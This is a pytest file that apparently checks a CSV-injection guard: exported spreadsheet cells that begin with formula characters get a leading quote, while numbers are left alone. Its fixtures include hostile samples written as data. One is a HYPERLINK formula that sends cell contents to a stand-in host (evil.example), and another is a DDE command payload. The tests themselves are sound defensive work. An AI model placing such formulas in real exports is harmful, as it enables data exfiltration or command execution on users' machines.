"""CSV cells that spreadsheets open as data (shared/csv_cells.py, OWASP's CSV injection rule),
and reporting's CSV answers written through them."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from services.reporting.api.answers import as_csv
from shared.csv_cells import csv_text, safe_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["google", "", " =1+1", "a=b", "'=already", "1-2", "cpc-brand"],
)
def test_other_text_stays_as_it_is(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value", [-3, -0.5, 0, 12, 2.5, Decimal("-12.50"), None, True, date(2026, 1, 2)]
)
def test_values_that_are_not_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) is value


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_csv_keeps_numbers_and_quotes_formulas() -> None:
    rows = [
        {"source": '=HYPERLINK("http://x.example","y")', "leads": 3, "change": -2},
        {"source": "google", "leads": 1, "change": -0.5},
        {"source": "-1,2", "leads": 0, "change": None},
    ]
    text = csv_text(rows, ["source", "leads", "change"])
    assert _read(text) == [
        ["source", "leads", "change"],
        ['\'=HYPERLINK("http://x.example","y")', "3", "-2"],
        ["google", "1", "-0.5"],
        ["'-1,2", "0", ""],
    ]
    # The csv module quotes the cells that need it (quotes, commas) and doubles inner quotes.
    assert text.splitlines()[1] == '"\'=HYPERLINK(""http://x.example"",""y"")",3,-2'
    assert text.splitlines()[3] == '"\'-1,2",0,'


def test_a_line_break_after_a_formula_stays_inside_its_quoted_cell() -> None:
    text = csv_text([{"source": "\r=1+1\n=2+2"}], ["source"])
    assert _read(text) == [["source"], ["'\r=1+1\n=2+2"]]


def test_columns_choose_and_order_the_cells() -> None:
    text = csv_text([{"b": 2, "a": "=1", "extra": "=x"}], ["a", "b", "missing"])
    assert _read(text) == [["a", "b", "missing"], ["'=1", "2", ""]]


def test_reportings_csv_answers_are_neutralised() -> None:
    response = as_csv([{"group": "@cmd", "reached": -1}, {"group": "mail", "reached": 4}])
    assert response.media_type == "text/csv; charset=utf-8"
    assert _read(bytes(response.body).decode()) == [
        ["group", "reached"],
        ["'@cmd", "-1"],
        ["mail", "4"],
    ]


def test_an_empty_report_is_its_header_alone() -> None:
    assert _read(bytes(as_csv([], ["source", "leads"]).body).decode()) == [["source", "leads"]]
